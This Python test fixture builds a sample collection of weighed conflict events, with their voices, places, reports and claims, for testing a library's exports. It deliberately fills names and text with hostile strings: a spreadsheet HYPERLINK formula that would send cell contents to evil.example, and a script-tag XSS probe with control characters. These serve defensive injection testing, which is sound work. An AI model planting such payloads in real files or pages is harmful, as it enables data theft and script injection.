"""A desk made by hand that holds one event of each kind that exports must tell apart.

Names, titles and words are as hostile as reports can be: formulas, markup, control characters.
"""

from dataclasses import replace

from samples import make_report
from twosource.holdings import Collection, Made
from twosource.model import (
    Actor,
    Bound,
    Capture,
    Claim,
    ClaimId,
    Corroboration,
    Count,
    Derivation,
    Event,
    EventId,
    EventMention,
    EventTime,
    Facet,
    Factuality,
    Phase,
    Place,
    Precision,
    Reading,
    Reason,
    Report,
    Source,
    SourceKind,
    Stance,
    Standing,
    State,
    Value,
    Voice,
    WeighedEvent,
)
from twosource.weigh.context import Context

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"more")'
MARKUP = "<script>alert(1)</script> ]]> & \x00\x0b\x1f"

# --- voices -----------------------------------------------------------------------------------

ARMY = Voice("NOR/army", "Norland: armed forces", "NOR/defence", SourceKind.MILITARY, "Norland")
SUDEN = Voice("SUD/army", "Suden: armed forces", "SUD/defence", SourceKind.MILITARY, "Suden")
NEIGHBOUR = Voice(
    "person:olena-mrshnk", "Olena Marchenko", "person:olena-mrshnk", SourceKind.PERSON
)
SPOKESMAN = Voice("person:ivr-hlm", "Ivar Holm", "NOR/defence", SourceKind.PERSON, "Norland")
ANONYMOUS = Voice("said:sldr", FORMULA, "said:sldr", SourceKind.ANONYMOUS)
CLINIC = Voice("said:klnk", "Kesh clinic", "said:klnk", SourceKind.ORGANISATION)

# --- places -----------------------------------------------------------------------------------

KESH = Place("geonames:1", "Kesh", -12.5, -45.25, "NO", Precision.SETTLEMENT, 5.0, "Kesh province")
PROVINCE = Place("geonames:2", "Kesh province", -12.0, -45.0, "NO", Precision.REGION, 80.0)
GULF = Place("twosource:gulf", "Gulf of Kesh", -13.0, -46.0, None, Precision.APPROXIMATE, 40.0)

# --- reports ----------------------------------------------------------------------------------

WORDS = f"Drones of Suden struck a depot at Kesh and killed 3 soldiers. {MARKUP}"


def _report(name: str, text: str, day: str | None, publisher: str | None) -> Report:
    report = make_report(text, day, publisher, name)
    return replace(report, url=f"https://post.example/{name}", language="en")


POST = _report("r1", WORDS, "2024-03-05", FORMULA)
WIRE = _report("r2", "-5 degrees; the army denied that a column was hit.", "2024-03-06", "Wire")
TELEGRAM = _report("r3", "The army will shell Kesh tomorrow, a neighbour fears.", None, MARKUP)
COPY = _report("r4", WORDS + " (copy)", "2024-03-05", "Copy & Paste")
REPORTS = (POST, WIRE, TELEGRAM, COPY)


def claim(
    name: str,
    voice: Voice,
    stance: Stance = Stance.ASSERTS,
    factuality: Factuality = Factuality.CT_PLUS,
    phase: Phase = Phase.PAST,
    mention: int | None = 0,
) -> Claim:
    source = Source(voice.name, voice.kind, voice.side, spans=((0, 4),))
    return Claim(
        ClaimId(name),
        ((0, 60),),
        source,
        (Source("Rita Relay", SourceKind.PERSON),),
        stance,
        factuality,
        phase,
        mention,
        EventTime("2024-03-04", "2024-03-04", "2024-03-04"),
        KESH,
    )


def mention(type: str, mode: str | None, actor: Actor, *others: Actor) -> EventMention:
    return EventMention((10, 16), type, mode, actors=(actor,), recipients=others)


SUDEN_FORCES = Actor(((0, 15),), "Drones of Suden", "SWE", "MIL")
SOLDIERS = Actor(((40, 50),), "3 soldiers", "NOR", "MIL")
VILLAGERS = Actor(((20, 29),), "two villagers", None, "CVL")
GUNMEN = Actor(((20, 29),), "Dawn Front", None, "REB")
SHIPS = Actor(((20, 29),), "two ships")
STRIKE = mention("ASSAULT", "drone", SUDEN_FORCES, SOLDIERS, SHIPS)
KILLED = Count(40, 50, "killed", 3, 3, Bound.EXACT, "3 soldiers")

# --- events -----------------------------------------------------------------------------------


def event(
    name: str,
    state: State,
    claims: dict[Claim, Voice],
    reports: tuple[Report, ...],
    facets: tuple[Facet, ...] = (),
    type: str = "ASSAULT",
    days: tuple[str, str] | None = ("2024-03-04", "2024-03-04"),
    place: Place | None = KESH,
) -> WeighedEvent:
    voices = {c.id: v for c, v in claims.items()}
    grade = {State.CROSS_SIDE: "F1", State.CONTESTED: "F4", State.EXPECTED: "F6"}.get(state, "F3")
    seen = Corroboration(
        len(reports),
        len(set(voices.values())),
        len({v.origin for v in voices.values()}),
        len({v.side for v in voices.values() if v.side}),
        grade,
        reasons=(Reason("states", f"{next(iter(voices.values())).name} says so."),),
        disputes=("Suden: armed forces denies it.",) if state is State.CONTESTED else (),
    )
    return WeighedEvent(
        Event(EventId(name), type, tuple(sorted(voices)), f"{FORMULA} {MARKUP} {name}"),
        state,
        seen,
        facets,
        EventTime(days[0], *days) if days else None,
        place,
        tuple(sorted(r.id for r in reports)),
        {v.id: v.name for v in voices.values()} | {v.origin: v.name for v in voices.values()},
        {c: v.id for c, v in voices.items()},
        (
            Standing("2024-03-05", State.SINGLE_ORIGIN, "F3", 1, 1, 1, 1, 1),
            Standing("2024-03-06", state, grade, 2, 2, 2, 2, 2),
        ),
    )


def value(number: float, *voices: Voice) -> Value:
    ids, origins = tuple(v.id for v in voices), tuple(v.origin for v in voices)
    return Value(number, number, Bound.EXACT, None, ids, origins, claims=(ClaimId("a1"),))


DEAD = Facet("killed", State.CROSS_SIDE, (value(3, ARMY, SUDEN), value(7, NEIGHBOUR)), 3, 2, 7)
WHO = Facet("who", State.SINGLE_ORIGIN, (Value(text="Olena Marchenko"), Value(text="SUD")), "SUD")

A1, A2 = claim("a1", ARMY), claim("a2", SUDEN)
A3 = claim("a3", NEIGHBOUR)
DENIED = claim("b2", SUDEN, Stance.DENIES, Factuality.CT_MINUS)
STRUCK = event(
    "e-struck", State.CROSS_SIDE, {A1: ARMY, A2: SUDEN, A3: NEIGHBOUR}, (POST, COPY), (DEAD, WHO)
)
CONTESTED = event(
    "e-contested",
    State.CONTESTED,
    {claim("b1", SPOKESMAN, mention=1): SPOKESMAN, DENIED: SUDEN},
    (WIRE,),
    days=("2024-03-01", "2024-03-07"),
    place=PROVINCE,
)
EXPECTED = event(
    "e-expected",
    State.EXPECTED,
    {claim("c1", ANONYMOUS, Stance.EXPECTS, phase=Phase.PLANNED): ANONYMOUS},
    (TELEGRAM,),
    days=("2024-03-09", "2024-03-09"),
)
WITHDRAWN = event("e-withdrawn", State.WITHDRAWN, {claim("d1", CLINIC): CLINIC}, (WIRE,))
RECALLED = event(
    "e-recalled",
    State.SINGLE_ORIGIN,
    {claim("f1", ARMY, phase=Phase.BACKGROUND): ARMY},
    (WIRE,),
    days=("2014-03-18", "2014-03-18"),
)
AT_SEA = event(
    "e-at-sea",
    State.SINGLE_ORIGIN,
    {claim("g1", CLINIC, mention=2): CLINIC},
    (WIRE,),
    type="INCIDENT",
    days=None,
    place=GULF,
)
NOWHERE = event(
    "e-nowhere",
    State.CORROBORATED,
    {claim("h1", CLINIC, mention=3): CLINIC},
    (WIRE,),
    type="PROTEST",
    days=("2024-03-05", "2024-03-05"),
    place=None,
)
EVENTS = (STRUCK, CONTESTED, EXPECTED, WITHDRAWN, RECALLED, AT_SEA, NOWHERE)

VOICES = {
    ClaimId(name): voice
    for name, voice in {
        "a1": ARMY,
        "a2": SUDEN,
        "a3": NEIGHBOUR,
        "b1": SPOKESMAN,
        "b2": SUDEN,
        "c1": ANONYMOUS,
        "d1": CLINIC,
        "f1": ARMY,
        "g1": CLINIC,
        "h1": CLINIC,
    }.items()
}


def _claims(events: tuple[WeighedEvent, ...], report: Report) -> tuple[Claim, ...]:
    wanted = {c for e in events if e.reports[0] == report.id for c in e.event.claims}
    return tuple(c for c in ALL_CLAIMS if c.id in wanted)


ALL_CLAIMS = (
    A1,
    A2,
    A3,
    claim("b1", SPOKESMAN, mention=1),
    DENIED,
    claim("c1", ANONYMOUS, Stance.EXPECTS, phase=Phase.PLANNED),
    claim("d1", CLINIC),
    claim("f1", ARMY, phase=Phase.BACKGROUND),
    claim("g1", CLINIC, mention=2),
    claim("h1", CLINIC, mention=3),
)
MENTIONS = (
    STRIKE,
    mention("ASSAULT", None, GUNMEN, VILLAGERS),
    mention("INCIDENT", "fire", SHIPS),
    mention("PROTEST", "demo", VILLAGERS),
)
READINGS = tuple(
    Reading(r, mentions=MENTIONS, counts=(KILLED,), claims=_claims(EVENTS, r)) for r in REPORTS
)
COPIED = Derivation(COPY.id, POST.id, "copy", 0.97, "97 in 100 words are the same")
MADE = Made("0.1.0", "5" * 64, day="2024-03-06")
CAPTURES = tuple(
    (r, Capture("0" * 64, "2024-03-07T10:00:00+00:00", f"in/{r.id}.txt", "t"), r.text.encode())
    for r in REPORTS
)
DESK = Collection(MADE, EVENTS, Context.of(READINGS, VOICES, (COPIED,)), REPORTS, CAPTURES)
EMPTY = Collection(MADE, (), Context({}))
